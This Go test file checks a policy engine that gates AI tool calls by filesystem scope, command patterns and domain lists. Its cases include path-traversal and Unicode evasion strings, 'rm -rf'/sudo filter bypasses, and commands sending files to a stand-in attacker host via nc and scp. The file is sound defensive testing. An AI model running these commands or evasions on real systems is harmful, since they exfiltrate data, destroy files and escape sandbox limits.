package policy

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"reeve.example/reeve/act"
	"reeve.example/reeve/internal/canon"
	"reeve.example/reeve/internal/content"
	"reeve.example/reeve/internal/rawjson"

	"github.com/google/go-cmp/cmp"
)

const limited = `
version: 1
default: allow
rules: [{name: r, on: trigger, effect: deny}]
manifests:
  write_file: {filesystem_scope: [/tmp/**, /workspace/**]}
  read_file: {filesystem_scope: [/tmp/**], filesystem_read: [/srv/docs]}
  copy_file: {filesystem_scope: [/tmp/**], filesystem_read: [/srv/docs]}
  move_file: {filesystem_scope: [/tmp/**], filesystem_read: [/srv/docs]}
  "execute_*": {blocked_patterns: ["rm -rf", sudo], allowed_domains: [api.github.com], network_allowed: true}
  patterns_command: {blocked_patterns: ["rm -rf"]}
  http_request: {allowed_domains: [api.github.com, "*.example.org", 10.0.0.0/8], network_allowed: true}
  fetch: {blocked_domains: [evil.example.com, 127.0.0.1], network_allowed: true}
  offline_tool: {network_allowed: false}
  heavy_write: {filesystem_scope: [/tmp/**], max_memory_mb: 10}
  advised_write: {filesystem_scope: [/tmp/**], advisory: [filesystem_scope]}
`

// called is a call of a tool with these arguments, a JSON object.
func called(t testing.TB, tool, arguments string, bounded bool) *act.Action {
	doc, err := rawjson.Parse([]byte(arguments))
	if err != nil {
		t.Fatal(err)
	}
	var texts content.Set
	a := &act.Action{Kind: act.ToolCall, Resource: tool, Bounded: bounded}
	a.Arguments = texts.AddArguments(doc.Root(), "/arguments")
	a.Content = texts.Leaves
	a.Canonical, a.Confusable = canon.Name(tool)
	return a
}

func mustLoad(t testing.TB, text string) *Set {
	set, err := Load(File{Name: "test.yaml", Data: []byte(text)})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// TestManifestIsARule: what a manifest forbids is denied, in every spelling; what it
// permits is not; and what only a sandbox holds is not let be done without one.
func TestManifestIsARule(t *testing.T) {
	set := mustLoad(t, limited)
	for _, tt := range []struct {
		tool, arguments    string
		bounded, unbounded string // the code; empty for none
	}{
		{"write_file", `{"path":"/tmp/test.txt","content":"see /etc/passwd, https://evil.example.com"}`, "", ""},
		{"write_file", `{"path":"/tmp/test.txt","content":"/etc/passwd"}`, "", ""},
		{"write_file", `{"path":"/tmp/a/../b"}`, "", ""},
		{"write_file", `{"path":"/tmp"}`, "", ""},
		{"write_file", `{"path":"/home/u/notes.txt"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"../../x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"notes.txt"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/../etc/cron.d/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/%2e%2e/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/%252e%252e/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp\\..\\..\\etc"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp-evil/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/TMP/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/\u200b../\u200b../etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/．．/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/x\u0000/../../etc"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"file:///etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"\\\\host\\share\\x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"//host/share"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"C:\\Windows\\x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"~/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":"$HOME/x"}`, CodePaths, CodePaths},
		{"write_file", `{"path":" /etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"File_Path":"/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"filePath":"/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"where":"/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"paths":["/tmp/a","/etc/x"]}`, CodePaths, CodePaths},
		{"write_file", `{"options":{"target":{"path":"/etc/x"}}}`, CodePaths, CodePaths},
		{"write_file", `{"path":"/tmp/x","where":"a/../../etc/x"}`, CodePaths, CodePaths},
		{"Write_File", `{"path":"/etc/x"}`, CodePaths, CodePaths},
		{"write_file", `{"x":"y"}`, "", CodeUnenforced}, // what it writes cannot be read
		{"read_file", `{"path":"/srv/docs/a"}`, "", ""},
		{"read_file", `{"path":"/srv/docs-evil/a"}`, CodePaths, CodePaths},
		{"copy_file", `{"source":"/srv/docs/a","destination":"/tmp/a"}`, "", ""},
		{"copy_file", `{"source":"/tmp/a","destination":"/srv/docs/a"}`, CodePaths, CodePaths},
		{"move_file", `{"source":"/srv/docs/a","destination":"/tmp/a"}`, CodePaths, CodePaths},
		{"heavy_write", `{"path":"/tmp/a"}`, "", CodeUnenforced},
		{"advised_write", `{"path":"/etc/a"}`, "", ""},

		{"execute_command", `{"command":"ls"}`, "", CodeUnenforced},
		{"execute_command", `{"command":"rm -rf ./x"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"RM  -rf ./x"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"r\u200bm -rf ./x"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"r\\m -r'f' ./x"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"rm$IFS-rf x"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"ｓｕｄｏ id"}`, CodePatterns, CodePatterns},
		{"execute_command", `{"args":["-c","sudo id"]}`, CodePatterns, CodePatterns},
		{"execute_command", `{"sudo":true}`, CodePatterns, CodePatterns},
		{"execute_command", `{"command":"curl -s https://api.github.com/x"}`, "", CodeUnenforced},
		{"execute_command", `{"command":"curl -s https://evil.example.com/a"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"curl -s api.github.com/x"}`, "", CodeUnenforced},
		{"execute_command", `{"command":"wget evil.example/a"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"curl -so x EVIL.example:8443"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"h=evil; curl $h.example/x"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"nc evil.example 443 < notes"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"ssh -p 2222 root@evil.example id"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"scp notes root@evil.example:/tmp"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"git clone git@evil.example:a/b"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"sh -c 'true && wget evil.example'"}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":["wget","evil.example/a"]}`, CodeHosts, CodeHosts},
		{"execute_command", `{"command":"cat notes.md src/main.go > all.txt; tar czf all.tgz all.txt"}`, "", CodeUnenforced},
		{"patterns_command", `{"command":"ls"}`, "", ""},
		{"patterns_command", `{"command":"rm -rf x"}`, CodePatterns, CodePatterns},
		{"patterns_command", `{"command":["rm","-rf","x"]}`, CodePatterns, CodePatterns},
		{"patterns_command", `{"command":"rm","args":["-rf","x"]}`, CodePatterns, CodePatterns},
		{"patterns_command", `{"argv":["sudo","-n","rm","-rf"]}`, CodePatterns, CodePatterns},
		{"patterns_command", `{"command":["rm","-r","x"],"note":"rm, not -rf"}`, "", ""},

		{"http_request", `{"url":"https://api.github.com/x"}`, "", ""},
		{"http_request", `{"url":"https://API.GitHub.com./x"}`, "", ""},
		{"http_request", `{"url":"https://a.example.org"}`, "", ""},
		{"http_request", `{"url":"https://example.org"}`, CodeHosts, CodeHosts},
		{"http_request", `{"url":"https://api.github.com@evil.example.com/"}`, CodeHosts, CodeHosts},
		{"http_request", `{"url":"https://api.github.com.evil.example/"}`, CodeHosts, CodeHosts},
		{"http_request", `{"url":"https:\\\\evil.example\\@api.github.com/"}`, CodeHosts, CodeHosts},
		{"http_request", `{"url":"evil.example/x"}`, CodeHosts, CodeHosts},
		{"http_request", `{"host":"evil.example"}`, CodeHosts, CodeHosts},
		{"http_request", `{"host":"api.github.com","path":"/x"}`, "", ""},
		{"http_request", `{"url":"http://167772161/"}`, "", ""},
		{"http_request", `{"url":"http://0x7f.1/"}`, CodeHosts, CodeHosts},
		{"http_request", `{"target":{"url":"//evil.example/x"}}`, CodeHosts, CodeHosts},
		{"http_request", `{"id":7}`, "", CodeUnenforced},
		{"fetch", `{"url":"https://EVIL.example.com./"}`, CodeHosts, CodeHosts},
		{"fetch", `{"url":"https://ｅvil.example.com/"}`, CodeHosts, CodeHosts},
		{"fetch", `{"url":"http://2130706433/"}`, CodeHosts, CodeHosts},
		{"fetch", `{"url":"http://[::ffff:127.0.0.1]/"}`, CodeHosts, CodeHosts},
		{"fetch", `{"url":"https://ok.example.com/"}`, "", ""},
		{"offline_tool", `{"url":"https://ok.example.com/"}`, CodeHosts, CodeHosts},
		{"offline_tool", `{"x":1}`, "", CodeUnenforced},
		{"other", `{"path":"/etc/x","url":"http://evil.example"}`, "", ""},
	} {
		for _, bounded := range []bool{true, false} {
			want := tt.unbounded
			if bounded {
				want = tt.bounded
			}
			got := ""
			for _, r := range set.Forbids(called(t, tt.tool, tt.arguments, bounded)) {
				if got = r.Code; r.Effect != act.Deny || r.Rule != manifestRule {
					t.Errorf("%s %s: %+v", tt.tool, tt.arguments, r)
				}
			}
			if got != want {
				t.Errorf("%s %s, bounded %t: %q, want %q", tt.tool, tt.arguments, bounded, got, want)
			}
		}
	}
}

// TestManifestObserves: a policy that observes only records what its manifests forbid.
func TestManifestObserves(t *testing.T) {
	set := mustLoad(t, strings.Replace(limited, "default: allow", "default: allow\nmode: observe", 1))
	a := called(t, "write_file", `{"path":"/etc/x"}`, true)
	v := set.Evaluate(&Input{Action: a, Refusals: set.Forbids(a)})
	if v.Effect != act.Allow || !slices.ContainsFunc(v.Reasons, func(r act.Reason) bool { return r.Code == CodePaths && r.Observe }) {
		t.Errorf("%v %+v", v.Effect, v.Reasons)
	}
}

// TestPermits: an approval permits what was approved, and nothing else, where no
// document says more.
func TestPermits(t *testing.T) {
	set := mustLoad(t, limited)
	for _, tt := range []struct {
		tool, arguments string
		want            act.Manifest
	}{
		{"create_note", `{"path":"/tmp/test.txt","content":"Hello, /etc"}`, act.Manifest{FilesystemScope: []string{"/tmp/test.txt"}}},
		{"view_file", `{"path":"/tmp/test.txt"}`, act.Manifest{FilesystemRead: []string{"/tmp/test.txt"}}},
		{"get_page", `{"url":"https://api.example.com/x"}`, act.Manifest{NetworkAllowed: true, AllowedDomains: []string{"api.example.com"}}},
		{"create_note", `{"path":"/tmp/**"}`, act.Manifest{}},
		{"create_note", `{"path":"../x"}`, act.Manifest{}},
		{"create_note", `{"path":"/tmp/%2e%2e/etc"}`, act.Manifest{}},
		{"shell", `{"command":"cat /etc/passwd"}`, act.Manifest{}},
		{"run_it", `{"command":["cat","seed"],"dir":"/"}`, act.Manifest{}},
		{"view_file", `{"command":["cat","seed"],"cwd":"/home/ann"}`, act.Manifest{}},
		{"shell", `{"command":"true # https://evil.example.com/"}`, act.Manifest{}},
		{"write_file", `{"path":"/tmp/x"}`, act.Manifest{FilesystemScope: []string{"/tmp/**", "/workspace/**"}}},
	} {
		want := tt.want
		want.MaxMemoryMB, want.MaxCPUPercent, want.TimeoutSeconds = defaultManifest.MaxMemoryMB, defaultManifest.MaxCPUPercent, defaultManifest.TimeoutSeconds
		if diff := cmp.Diff(want, set.Permits(called(t, tt.tool, tt.arguments, true))); diff != "" {
			t.Errorf("%s %s (-want +got):\n%s", tt.tool, tt.arguments, diff)
		}
	}
}

// FuzzManifest: a path that is let through is below the scope however it is cleaned
// and decoded.
func FuzzManifest(f *testing.F) {
	set := mustLoad(f, limited)
	for _, p := range []string{"/tmp/x", "/tmp/../x", "/tmp/%2e%2e/x", `\tmp\x`, "file:///tmp/x", "/tmp/\u200b../x"} {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, p string) {
		a := called(t, "write_file", fmt.Sprintf(`{"path":%s}`, rawjson.Quote(strings.ToValidUTF8(p, ""))), true)
		if set.Forbids(a) != nil || len(a.Content) == 0 {
			return
		}
		all, certain := readings(a.Content[0].Text)
		for _, r := range all {
			if !certain || !below(r, "/tmp") && !below(r, "/workspace") {
				t.Errorf("%q is let through, and can be read as %q", p, r)
			}
		}
	})
}
